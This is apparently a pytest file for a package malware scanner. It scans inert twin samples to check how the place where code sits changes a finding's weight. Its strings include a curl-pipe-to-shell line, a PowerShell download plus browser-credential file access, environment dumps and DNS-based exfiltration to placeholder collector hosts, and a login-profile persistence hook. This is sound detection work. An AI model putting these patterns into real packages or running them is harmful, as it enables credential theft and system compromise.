"""Where code runs decides what a finding weighs: each case is a synthetic, harmless sample
(inert strings, never run) next to a twin that differs only in where the same code sits.
"""

from __future__ import annotations

from bastion.core.scanning import scan

from .support import rules_of, sdist

SETUP_HEAD = "import os\nfrom setuptools import setup, Command\n"
PUBLISH = ("class Publish(Command):\n    def run(self):\n        os.system('placeholder-upload dist/*')\n")


def _scan(tmp_path, name, files):  # noqa: ANN001, ANN202
    (tmp_path / name).mkdir()
    return scan(sdist(tmp_path / name, files))


def _weight(result, rule_id):  # noqa: ANN001, ANN202
    return max((f.weight for f in result.findings if f.rule == rule_id), default=0.0)


def test_a_setup_command_pip_never_runs_is_not_install_time(tmp_path):
    inert = _scan(tmp_path, "a", {"setup.py": SETUP_HEAD + PUBLISH
                                  + "setup(name='demo', cmdclass={'publish': Publish})\n"})
    active = _scan(tmp_path, "b", {"setup.py": SETUP_HEAD + PUBLISH
                                   + "setup(name='demo', cmdclass={'install': Publish})\n"})
    assert "install-code" not in rules_of(inert) and inert.verdict == "clean"
    assert _weight(active, "proc-exec") > _weight(inert, "proc-exec") > 0


def test_a_setup_branch_on_a_maintainer_command_is_not_install_time(tmp_path):
    guarded = _scan(tmp_path, "a", {"setup.py": "import os, sys\nfrom setuptools import setup\n"
                                    "if sys.argv[-1] == 'publish':\n    os.system('placeholder-upload')\n"
                                    "setup(name='demo')\n"})
    bare = _scan(tmp_path, "b", {"setup.py": "import os, sys\nfrom setuptools import setup\n"
                                 "os.system('placeholder-upload')\nsetup(name='demo')\n"})
    assert "install-code" not in rules_of(guarded)
    assert "install-code" in rules_of(bare)


def test_a_telling_string_in_code_that_never_acts_is_data(tmp_path):
    url = "'https://discord.com/api/webhooks/123/placeholder'"
    data = _scan(tmp_path, "a", {"demo/sub/hosts.py": f"KNOWN = [{url}]\n"})
    sent = _scan(tmp_path, "b", {"demo/sub/hosts.py": f"import requests\ndef go(x):\n"
                                 f"    requests.post({url}, data=x)\n"})
    assert "exfil-webhook" in rules_of(data) and data.verdict == "clean"
    assert sent.verdict != "clean"


def test_maintainer_scripts_and_ci_weigh_little(tmp_path):
    command = "import os\ndef go():\n    os.system('curl -s http://example.invalid/x | sh')\n"
    script = _scan(tmp_path, "a", {"scripts/release.py": command, ".buildkite/run.py": command})
    package = _scan(tmp_path, "b", {"demo/core.py": command})
    assert script.verdict == "clean"
    assert package.verdict == "malicious"


def test_a_top_level_module_counts_as_import_time_only_when_the_build_installs_it(tmp_path):
    module = "import os\nos.system('placeholder-tool')\n"
    setup = "from setuptools import setup\nsetup(name='demo', py_modules=['{}'])\n"
    named = _scan(tmp_path, "a", {"setup.py": setup.format("helper"), "helper.py": module})
    unnamed = _scan(tmp_path, "b", {"setup.py": setup.format("other"), "helper.py": module})
    assert _weight(named, "proc-exec") > _weight(unnamed, "proc-exec") > 0


def test_exec_of_readable_pieces_is_dynamic_and_of_char_codes_is_hidden(tmp_path):
    readable = _scan(tmp_path, "a", {"demo/core.py": "def go():\n    return eval('lambda x: ' + 'x + 1')\n"})
    hidden = _scan(tmp_path, "b", {"demo/core.py": "def go():\n    return eval(''.join(map(chr, "
                                   "[112, 114, 105, 110, 116, 40, 41])))\n"})
    assert "exec-decoded" not in rules_of(readable)
    assert "exec-decoded" in rules_of(hidden)


def test_decryption_by_a_method_of_an_object_built_in_place_is_decoding(tmp_path):
    result = _scan(tmp_path, "a", {"demo/core.py": "from fernet import Fernet\n"
                                   "exec(Fernet(b'placeholder-key').decrypt(b'placeholder-token'))\n"})
    assert "exec-decoded" in rules_of(result)


def test_looking_up_the_own_host_name_is_recon_not_network(tmp_path):
    result = _scan(tmp_path, "a", {"demo/core.py": "import socket\n"
                                   "ADDRESS = socket.gethostbyname(socket.gethostname())\n"})
    assert "recon-host" in rules_of(result) and "net-call" not in rules_of(result)


def test_a_pth_among_the_tests_is_a_fixture(tmp_path):
    line = "import os; os.system('placeholder')\n"
    fixture = _scan(tmp_path, "a", {"tests/data/x.pth": line})
    shipped = _scan(tmp_path, "b", {"src/x.pth": line})
    assert fixture.verdict == "clean" and "pth-exec" in rules_of(fixture)
    assert shipped.verdict == "malicious"


def test_a_module_with_one_broken_line_is_still_read_for_its_calls(tmp_path):
    # A quote inside a quoted string: the module does not parse as written.
    body = ("import os, requests\nNOTE = 'a 'broken' note'\n"
            "requests.get('https://example.invalid/placeholder')\nos.system('placeholder')\n")
    broken = _scan(tmp_path, "a", {"demo/__init__.py": body})
    python2 = _scan(tmp_path, "b", {"demo/__init__.py": "import os\n"
                                    + "print 'placeholder'\n" * 6 + "os.system('placeholder')\n"})
    assert {"net-call", "proc-exec", "download-exec"} <= rules_of(broken)
    assert broken.verdict == "malicious"
    # More broken lines than a careless edit leaves: not Python 3, matched as text only.
    assert "proc-exec" not in rules_of(python2) and python2.verdict == "clean"


def test_a_script_deep_in_the_package_is_data_one_next_to_setup_is_not(tmp_path):
    script = ("Invoke-WebRequest -Uri https://downloads.placeholder-host.net/placeholder.exe -OutFile $env:TEMP\\p.exe\n"
              "Remove-Item \"$env:LOCALAPPDATA\\Placeholder\\User Data\\Local State\"\n")
    deep = _scan(tmp_path, "a", {"demo/driver/bin/reinstall.ps1": script})
    top = _scan(tmp_path, "b", {"install.ps1": script})
    assert {"drop-exe-url", "cred-browser"} <= rules_of(deep) and deep.verdict == "clean"
    assert _weight(top, "drop-exe-url") > _weight(deep, "drop-exe-url")


def test_testing_the_environment_for_a_word_is_not_dumping_it(tmp_path):
    head = "import os\nfrom setuptools import setup\n"
    tested = _scan(tmp_path, "a", {"setup.py": head + "if 'placeholder' in str(os.environ):\n"
                                   "    del os.link\nsetup(name='demo')\n"})
    dumped = _scan(tmp_path, "b", {"setup.py": head + "SNAPSHOT = str(os.environ)\nsetup(name='demo')\n"})
    assert "cred-env-dump" not in rules_of(tested) and tested.verdict == "clean"
    assert "cred-env-dump" in rules_of(dumped)


def test_powershell_running_the_package_own_script_is_a_build_step(tmp_path):
    def setup(command):  # noqa: ANN001, ANN202
        return ("import subprocess\nfrom setuptools import setup\n"
                f"subprocess.run({command!r})\nsetup(name='demo')\n")
    build = _scan(tmp_path, "a", {"setup.py": setup(["powershell.exe", ".\\build.ps1"])})
    hidden = _scan(tmp_path, "b", {"setup.py": setup(["powershell.exe", "-w", "hidden", ".\\build.ps1"])})
    assert "proc-shell-download" not in rules_of(build) and "proc-exec" in rules_of(build)
    assert "proc-shell-download" in rules_of(hidden)


def test_one_variable_of_the_environment_in_a_request_is_configuration(tmp_path):
    head = "import os, urllib.request\n"
    port = _scan(tmp_path, "a", {"demo/check.py": head + "def ok():\n    urllib.request.urlopen("
                                 "'http://localhost:' + os.environ['PORT'] + os.environ.get('PREFIX', '/'))\n"})
    whole = _scan(tmp_path, "b", {"demo/check.py": head + "def ok():\n    urllib.request.urlopen("
                                  "'http://collector.placeholder-host.net/', data=str(os.environ).encode())\n"})
    assert "cred-env-dump" not in rules_of(port)
    assert "cred-env-dump" in rules_of(whole)


def test_a_package_installed_from_a_fetched_address_at_import_is_download_and_run(tmp_path):
    head = "import subprocess, requests\n"
    fetched = _scan(tmp_path, "a", {"demo/__init__.py": head + "def go():\n"
                                    "    url = requests.get('https://placeholder-host.net/next').text\n"
                                    "    subprocess.run(['pip', 'install', 'git+' + url])\ngo()\n"})
    fixed = _scan(tmp_path, "b", {"demo/__init__.py": "import subprocess\ndef go():\n"
                                  "    subprocess.run(['pip', 'install', 'placeholder-extra'])\ngo()\n"})
    assert "download-exec" in rules_of(fetched) and fetched.verdict == "malicious"
    assert "download-exec" not in rules_of(fixed) and fixed.verdict == "clean"


def test_looking_up_the_own_host_name_kept_in_an_attribute_is_recon(tmp_path):
    def module(lookup):  # noqa: ANN001, ANN202
        return ("import getpass, socket, requests\nclass Run:\n    def __init__(self):\n"
                "        self.host = socket.gethostname()\n        self.user = getpass.getuser()\n"
                f"        self.address = socket.gethostbyname({lookup})\n")
    own = _scan(tmp_path, "a", {"demo/sub/runner.py": module("self.host")})
    built = _scan(tmp_path, "b", {"demo/sub/runner.py": module("self.user + '.collector.placeholder-host.net'")})
    assert "net-call" not in rules_of(own) and "exfil-host-data" not in rules_of(own)
    assert "exfil-dns" in rules_of(built)


def test_a_string_only_a_maintainer_command_reaches_is_not_install_time(tmp_path):
    line = "os.system('placeholder-upload dist/*')  # reads ~/.pypirc\n"
    head = "import os, sys\nfrom setuptools import setup\n"
    guarded = _scan(tmp_path, "a", {"setup.py": head + "if sys.argv[-1] == 'publish':\n    " + line
                                    + "setup(name='demo')\n"})
    bare = _scan(tmp_path, "b", {"setup.py": head + line + "setup(name='demo')\n"})
    assert _weight(bare, "cred-files") > _weight(guarded, "cred-files") > 0
    assert guarded.verdict == "clean"


def test_a_dns_tool_run_on_a_name_built_from_data_is_dns_exfiltration(tmp_path):
    def module(host):  # noqa: ANN001, ANN202
        return ("import socket, subprocess\ndef check():\n    who = socket.gethostname()\n"
                f"    name = {host}\n    subprocess.Popen(['dig', '+short', name])\n")
    built = _scan(tmp_path, "a", {"demo/__init__.py": module("f'{who}.collector.placeholder-host.net'")})
    given = _scan(tmp_path, "b", {"demo/__init__.py": module("'placeholder-host.net'")})
    assert "exfil-dns" in rules_of(built) and built.verdict != "clean"
    assert "exfil-dns" not in rules_of(given) and given.verdict == "clean"


def test_the_os_or_cpu_fields_of_uname_are_not_host_identity(tmp_path):
    def module(field):  # noqa: ANN001, ANN202
        return ("import platform, urllib.request\n"
                f"ARCH = platform.uname(){field}\n"
                "def fetch():\n    urllib.request.urlopen('https://placeholder-host.net/tool-' + ARCH)\n")
    build = "from setuptools import setup\nimport helper\nsetup(name='demo')\n"
    cpu = _scan(tmp_path, "a", {"setup.py": build, "helper.py": module("[4]")})
    node = _scan(tmp_path, "b", {"setup.py": build, "helper.py": module("[1]")})
    assert "recon-host" not in rules_of(cpu) and cpu.verdict == "clean"
    assert "exfil-host-data" in rules_of(node)


def test_a_lookup_of_the_own_name_whose_answer_is_dropped_collects_nothing(tmp_path):
    def module(lookup):  # noqa: ANN001, ANN202
        return ("import socket, requests\ndef notify(port):\n    addr = socket.getfqdn()\n"
                f"    {lookup}\n    requests.post('https://placeholder-host.net/', data=f'{{addr}}:{{port}}')\n")
    dropped = _scan(tmp_path, "a", {"demo/sub/notify.py": module("socket.gethostbyname(addr)")})
    kept = _scan(tmp_path, "b", {"demo/sub/notify.py": module("addr += socket.gethostbyname(addr)")})
    assert "exfil-host-data" not in rules_of(dropped) and dropped.verdict == "clean"
    assert "exfil-host-data" in rules_of(kept)


def test_buildouts_bootstrap_script_weighs_little_unless_the_build_names_it(tmp_path):
    script = ("import subprocess, urllib.request\n"
              "exec(urllib.request.urlopen('https://placeholder-host.net/ez_setup.py').read())\n"
              "subprocess.call(['placeholder-buildout'])\n")
    unnamed = _scan(tmp_path, "a", {"pyproject.toml": "[project]\nname = 'demo'\n", "bootstrap.py": script})
    named = _scan(tmp_path, "b", {"setup.py": "import bootstrap\nfrom setuptools import setup\nsetup(name='demo')\n",
                                  "bootstrap.py": script})
    assert unnamed.verdict == "clean"
    assert named.verdict == "malicious"


def test_appending_to_a_login_profile_is_persistence_importing_a_profile_module_is_not(tmp_path):
    def setup(body):  # noqa: ANN001, ANN202
        return ("from setuptools import setup\nfrom setuptools.command.install import install\n"
                "class Install(install):\n    def run(self):\n"
                f"{body}        install.run(self)\nsetup(name='demo', cmdclass={{'install': Install}})\n")
    chars = ", ".join(str(ord(c)) for c in ".profile")
    hidden = setup(f"        p = ''.join([chr(x) for x in [{chars}]])\n"
                   "        with open('/placeholder/home/' + p, 'a') as f:\n            f.write('echo placeholder')\n")
    appended = _scan(tmp_path, "a", {"setup.py": hidden})
    relative = _scan(tmp_path, "b", {"setup.py": setup("        pass\n"),
                                     "demo/__init__.py": "from .profile import Profile\n",
                                     "demo/profile.py": "class Profile:\n    name = 'self.profile'\n"})
    assert "persist-unix" in rules_of(appended) and appended.verdict != "clean"
    assert "persist-unix" not in rules_of(relative)


def test_importing_code_from_a_shipped_zip_at_install_is_running_it(tmp_path):
    load = "zipimport.zipimporter('bundle.zip').load_module('bundle')\n"
    setup = ("import zipimport\nfrom setuptools import setup\nfrom setuptools.command.install import install\n"
             f"class Install(install):\n    def run(self):\n        {load}        install.run(self)\n"
             "setup(name='demo', cmdclass={'install': Install})\n")
    at_install = _scan(tmp_path, "a", {"setup.py": setup})
    in_package = _scan(tmp_path, "b", {"demo/__init__.py": f"import zipimport\ndef plugin():\n    return {load}"})
    assert "exec-dynamic" in rules_of(at_install) and at_install.verdict == "malicious"
    assert _weight(at_install, "exec-dynamic") > _weight(in_package, "exec-dynamic") > 0
    assert in_package.verdict == "clean"


def test_a_desktop_cache_refresh_at_install_is_not_running_a_program(tmp_path):
    setup = ("import subprocess\nfrom setuptools import setup\nfrom distutils.command.install_data import install_data\n"
             "class Data(install_data):\n    def run(self):\n        subprocess.call([{!r}])\n"
             "setup(name='demo', cmdclass={{'install_data': Data}})\n")
    desktop = _scan(tmp_path, "a", {"setup.py": setup.format("update-desktop-database")})
    other = _scan(tmp_path, "b", {"setup.py": setup.format("placeholder-program")})
    assert "proc-exec" not in rules_of(desktop) and desktop.verdict == "clean"
    assert "proc-exec" in rules_of(other)


def test_a_request_to_an_address_only_decoding_shows_is_hidden(tmp_path):
    # Folded through a module-level variable the address shows words no piece of the call
    # holds; that is configuration, not hiding. chr() codes and base64 are hiding.
    codes = ", ".join(str(ord(c)) for c in "https://collector.placeholder.invalid/x")
    hidden = _scan(tmp_path, "a", {"demo/sub/client.py": "import requests\ndef go(data):\n"
                                   f"    requests.post(''.join(map(chr, [{codes}])), data=data)\n"})
    configured = _scan(tmp_path, "b", {"demo/sub/client.py": "import requests\nSERVER = 'registry.placeholder.invalid'\n"
                                       "def go(data):\n    requests.post(f'https://{SERVER}/oauth2/token', data=data)\n"})
    assert "exfil-hidden-url" in rules_of(hidden) and hidden.verdict != "clean"
    assert "exfil-hidden-url" not in rules_of(configured) and configured.verdict == "clean"


def test_a_secret_sent_as_it_is_is_exfiltration_a_signature_made_with_it_is_not(tmp_path):
    head = "import requests\nURL = 'https://api.placeholder.invalid/x'\n"
    sent = _scan(tmp_path, "a", {"demo/sub/wallet.py": head + "class W:\n    def go(self):\n"
                                 "        requests.post(URL, json={'k': str(self.access_key_secret)})\n"})
    signed = _scan(tmp_path, "b", {"demo/sub/wallet.py": head + "class W:\n    def go(self):\n"
                                   "        requests.post(URL, json={'sig': self.sign(self.private_key)})\n"})
    public = _scan(tmp_path, "c", {"demo/sub/wallet.py": head + "def go(public_key, client_secret):\n"
                                   "    requests.post(URL, data={'pk': public_key, 'cs': client_secret})\n"})
    assert "exfil-secret" in rules_of(sent) and sent.verdict != "clean"
    assert "exfil-secret" not in rules_of(signed) and signed.verdict == "clean"
    assert "exfil-secret" not in rules_of(public) and public.verdict == "clean"
